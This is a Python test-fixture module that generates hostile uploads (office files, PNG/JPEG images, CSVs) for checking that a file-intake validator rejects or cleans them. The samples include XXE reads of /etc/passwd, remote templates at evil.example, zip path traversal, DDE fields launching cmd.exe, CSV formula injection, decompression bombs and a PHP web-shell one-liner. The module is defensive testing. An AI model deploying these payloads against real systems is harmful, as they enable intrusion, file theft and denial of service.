"""Files that somebody could send to do harm, made here: (kind by its name, what it is, bytes).

`hostile()` must all be refused. `soiled()` are pictures that may be taken, without what was hidden in them.
"""

import stat
import struct
import zlib
from io import BytesIO
from zipfile import ZIP_DEFLATED, ZipFile, ZipInfo

from PIL import Image, PngImagePlugin

from programmes.opening.office import TEST_VIRUS
from tests.hostile_pdfs import good_pdf, hostile_pdfs

HIDDEN = b"<?php system($_GET['x']); ?><script>alert('hidden')</script>"
TURNED = "\u202e"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
MAIN = "application/vnd.openxmlformats-officedocument"
TYPES = {
    "docx": f'<Types><Override ContentType="{MAIN}.wordprocessingml.document.main+xml"/></Types>',
    "xlsx": f'<Types><Override ContentType="{MAIN}.spreadsheetml.sheet.main+xml"/></Types>',
}
BODY = {
    "docx": {"[Content_Types].xml": TYPES["docx"], "word/document.xml": f"<w:document {W}><w:body/></w:document>"},
    "xlsx": {"[Content_Types].xml": TYPES["xlsx"], "xl/workbook.xml": "<workbook><sheets/></workbook>"},
    "odt": {"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<document-content/>"},
}
EXTERNAL = (
    '<Relationships><Relationship Id="r" Type="http://x/relationships/{0}" Target="{1}" TargetMode="External"/>'
    "</Relationships>"
)
LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
) + "]><l>&j;</l>"  # fmt: skip


def office(kind, extra=(), without=(), **changed):
    """An office file as bytes, with more or other entries."""
    made = BytesIO()
    entries = {name: body for name, body in BODY[kind].items() if name not in without}
    with ZipFile(made, "w", ZIP_DEFLATED) as folder:
        for name, content in {**entries, **changed}.items():
            folder.writestr(name, content)
        for name, content in extra:
            folder.writestr(name, content)
    return made.getvalue()


def picture(kind, size=(40, 30), **how):
    made = BytesIO()
    Image.new("RGB", size, "teal").save(made, kind, **how)
    return made.getvalue()


def good(kind):
    makers = {"pdf": good_pdf, "png": lambda: picture("PNG"), "jpg": lambda: picture("JPEG")}
    makers["csv"] = lambda: "Navn;Antal;Telefon\nSkjærtorsdag;-12,5;+45 12 34 56 78\n".encode()
    return makers[kind]() if kind in makers else office(kind)


def in_every_office_file(kind):
    name = next(iter(set(BODY[kind]) - {"[Content_Types].xml", "mimetype"}))
    yield "entities that multiply", office(kind, **{name: LAUGHS})
    secret = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    yield "an entity from the disk", office(kind, **{name: secret})
    yield "a grammar from elsewhere", office(kind, **{name: '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd"><x/>'})
    yield "XML that does not end", office(kind, **{name: "<a><b>"})
    yield "nothing in it", office(kind, **{name: ""})
    for title, path in {
        "a way up": "../../../etc/cron.d/x.xml", "a way from the root": "/etc/x.xml", "a drive": "C:\\x.xml",
        "a way up in the other script": "..\\..\\x.xml", "a turned name": f"x{TURNED}lmx.exe.xml",
        "a name with a line end": "x\n.xml",
    }.items():  # fmt: skip
        yield title, office(kind, extra=[(path, "<x/>")])
    yield from hidden_in_every_office_file(kind)
    yield from broken_office_files(kind)


def hidden_in_every_office_file(kind):
    link = ZipInfo("word/link.xml")
    link.external_attr = (stat.S_IFLNK | 0o777) << 16
    yield "a link to the disk", office(kind, extra=[(link, "/etc/passwd")])
    yield "a program", office(kind, extra=[("x/setup.exe", b"MZ")])
    yield "a page", office(kind, extra=[("x/index.html", "<script>alert(1)</script>")])
    yield "an archive within", office(kind, extra=[("x/more.zip", office("odt"))])
    yield "a packed object", office(kind, extra=[("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0")])
    yield "a control that runs", office(kind, extra=[("word/activeX/activeX1.xml", "<x/>")])
    yield "macros", office(kind, extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")])
    yield "2,001 entries", office(kind, extra=[(f"x/{n}.xml", "<x/>") for n in range(2000)])
    yield "250 MB of nothing", office(kind, extra=[("x/big.xml", b" " * 250 * 1024 * 1024)])
    yield "the test virus", office(kind, extra=[("media/x.png", TEST_VIRUS)])


def broken_office_files(kind):
    whole = office(kind)
    yield "half of it", whole[: len(whole) // 2]
    yield "a program before it", b"MZ\x90\x00" + whole
    yield "a page before it", HIDDEN + whole
    yield "a note at its end", noted(kind)
    yield "a name twice", doubled(kind)
    yield "a sum that is wrong", spoiled(whole)
    yield "a length that lies", lying(kind)
    yield "locked entries", locked(whole)
    yield "locked as a whole", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4000)
    yield "a bare archive", office(kind, without=set(BODY[kind]), extra=[("brev.xml", "<x/>")])


def noted(kind):
    made = BytesIO(office(kind))
    with ZipFile(made, "a") as folder:
        folder.comment = HIDDEN
    return made.getvalue()


def doubled(kind):
    name = list(BODY[kind])[-1]
    return office(kind, extra=[(name.upper(), "<x/>")])


def spoiled(whole):
    place = whole.index(b"PK\x01\x02") + 16
    return whole[:place] + b"\0\0\0\0" + whole[place + 4 :]


def lying(kind):
    """An entry that says it is ten bytes and is a megabyte."""
    whole = office(kind, extra=[("x/short.xml", b" " * 1024 * 1024)])
    place = whole.rindex(b"PK\x01\x02") + 24
    return whole[:place] + struct.pack("<I", 10) + whole[place + 4 :]


def locked(whole):
    place = whole.index(b"PK\x01\x02") + 8
    return whole[:place] + b"\x01\x00" + whole[place + 2 :]


def of_one_office_kind():
    macros = TYPES["docx"].replace("document.main", "document.macroEnabled.main")
    yield "docx", "a macro file by another name", office("docx", **{"[Content_Types].xml": macros})
    rels = "word/_rels/settings.xml.rels"
    for what, target in {
        "attachedTemplate": "http://evil.example/t.dotm", "image": "http://evil.example/i.png",
        "oleObject": "file:///c:/x.doc", "hyperlink": "javascript:alert(1)", "frame": "http://evil.example/",
        "subDocument": "\\\\evil.example\\x",
    }.items():  # fmt: skip
        yield "docx", f"{what} from elsewhere", office("docx", **{rels: EXTERNAL.format(what, target)})
    for words in ('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"', 'DDE excel "x" "y"'):
        field = f"<w:document {W}><w:p><w:r><w:instrText>{words}</w:instrText></w:r></w:p></w:document>"
        yield "docx", f"a field that runs: {words[:7]}", office("docx", **{"word/document.xml": field})
        simple = f'<w:document {W}><w:fldSimple w:instr="{words.replace(chr(34), "")}"/></w:document>'
        yield "docx", f"a short field that runs: {words[:7]}", office("docx", **{"word/document.xml": simple})
    yield "xlsx", "a link to another table", office("xlsx", **{"xl/externalLinks/externalLink1.xml": "<x/>"})
    yield "xlsx", "old macros", office("xlsx", **{"xl/macrosheets/sheet1.xml": "<x/>"})
    yield "xlsx", "old dialogues", office("xlsx", **{"xl/dialogsheets/sheet1.xml": "<x/>"})
    yield "odt", "Basic", office("odt", **{"Basic/Standard/Module1.xml": "<x/>"})
    yield "odt", "Python", office("odt", **{"Scripts/python/x.py": "import os"})
    event = '<o xmlns:s="urn:script"><s:event-listener/></o>'
    yield "odt", "an act when it is opened", office("odt", **{"content.xml": event})
    dde = '<o xmlns:t="urn:office"><t:dde-source/></o>'
    yield "odt", "a link that runs", office("odt", **{"content.xml": dde})
    far = '<o xmlns:d="urn:drawing" xmlns:l="urn:link"><d:image l:href="http://evil.example/i.png"/></o>'
    yield "odt", "a picture from elsewhere", office("odt", **{"content.xml": far})
    yield "odt", "another kind", office("odt", mimetype="application/vnd.oasis.opendocument.spreadsheet")
    yield "docx", "a table", office("xlsx")
    yield "xlsx", "a letter", office("docx")
    yield "odt", "a letter of another house", office("docx")


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def a_png(width, height, *chunks):
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + b"".join(chunks) + chunk(b"IEND", b"")


def pictures():
    empty = chunk(b"IDAT", zlib.compress(b""))
    yield "png", "a flood of pixels", a_png(60_000, 60_000, empty)
    yield "png", "the largest there can be", a_png(2**31 - 1, 2**31 - 1, empty)
    made = BytesIO()
    Image.new("1", (7_000, 7_000)).save(made, "PNG")
    yield "png", "49 million pixels that are there", made.getvalue()
    yield (
        "png",
        "a note that becomes 100 MB",
        a_png(9, 9, chunk(b"zTXt", b"x\0\0" + zlib.compress(bytes(100 * 1024 * 1024))), empty),
    )
    yield "png", "pixels that are not there", a_png(500, 500, empty)
    jpeg, png = picture("JPEG"), picture("PNG")
    place = jpeg.index(b"\xff\xc0") + 5
    yield "jpg", "a flood of pixels", jpeg[:place] + b"\xff\xff\xff\xff" + jpeg[place + 4 :]
    yield "jpg", "half of it", jpeg[: len(jpeg) // 2]
    yield "png", "half of it", png[: len(png) // 2]
    yield "png", "a sum that is wrong", png[:30] + b"\0\0\0\0" + png[34:]
    yield "png", "no size", a_png(0, 0, empty)
    yield "png", "the other kind of picture", jpeg
    yield "jpg", "the other kind of picture", png


def no_pictures():
    for kind in ("png", "jpg"):
        yield kind, "a drawing with a script", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
        yield kind, "a page", HIDDEN
        yield kind, "a moving picture", picture("GIF")
        yield kind, "a scan", picture("TIFF")
        yield kind, "an icon", picture("ICO")
        yield kind, "a program", b"MZ\x90\x00" + bytes(900)
        yield kind, "the test virus", TEST_VIRUS
        yield kind, "a head of it", good(kind)[:12]


def tables():
    for start in ("=1+1", "=cmd|'/c calc'!A1", "@SUM(A1)", "+cmd|x", "-cmd|x", '=HYPERLINK("http://evil.example")'):
        quoted = start.replace('"', '""')
        yield "csv", f"a cell {start[:6]} alone", start.encode()
        yield "csv", f"a cell {start[:6]} after a comma", f'a,b\n1,"{quoted}"\n'.encode()
        yield "csv", f"a cell {start[:6]} after a semicolon", f'a;b\n1;" {quoted}"\n'.encode()
        yield "csv", f"a cell {start[:6]} after a tab", f"a\tb\n1\t{start}\n".encode()
    yield "csv", "a page", b"  <html><script>alert(1)</script></html>"
    yield "csv", "a program", b"MZ\x90\x00\x03" + bytes(100)
    yield "csv", "an archive", office("odt")
    yield "csv", "wide letters", "a;b\n=1".encode("utf-16")
    yield "csv", "signs that command", b"a;b\n\x1b[2J;\x07\n"
    yield "csv", "the test virus", TEST_VIRUS


def hostile():
    """Every one of them must be refused."""
    for title, content in hostile_pdfs():
        yield "pdf", title, content
    yield "pdf", "the test virus", TEST_VIRUS
    for kind in ("docx", "xlsx", "odt"):
        for title, content in in_every_office_file(kind):
            yield kind, title, content
    for made in (of_one_office_kind, pictures, no_pictures, tables):
        yield from made()


def soiled():
    """Pictures that look harmless, with something hidden in each."""
    exif = Image.Exif()
    exif[0x0112] = 6  # lies on its side
    exif.get_ifd(0x8825).update({1: "N", 2: (55.0, 42.0, 0.0), 3: "E", 4: (9.0, 32.0, 0.0)})
    exif[0x010E] = HIDDEN.decode()
    yield "jpg", "where it was taken", picture("JPEG", exif=exif)
    yield "png", "where it was taken", picture("PNG", exif=exif)
    yield "jpg", "a remark", picture("JPEG", comment=HIDDEN)
    notes = PngImagePlugin.PngInfo()
    notes.add_text("Comment", HIDDEN.decode())
    notes.add_itxt("XML:com.adobe.xmp", HIDDEN.decode(), zip=False)
    yield "png", "notes", picture("PNG", pnginfo=notes)
    yield "jpg", "colours with a note", picture("JPEG", icc_profile=HIDDEN * 20)
    for kind, name in (("jpg", "JPEG"), ("png", "PNG")):
        yield kind, "a page behind it", picture(name) + HIDDEN
        yield kind, "an archive behind it", picture(name) + office("odt", **{"x.xml": HIDDEN})
        yield kind, "a PDF behind it", picture(name) + good_pdf() + HIDDEN
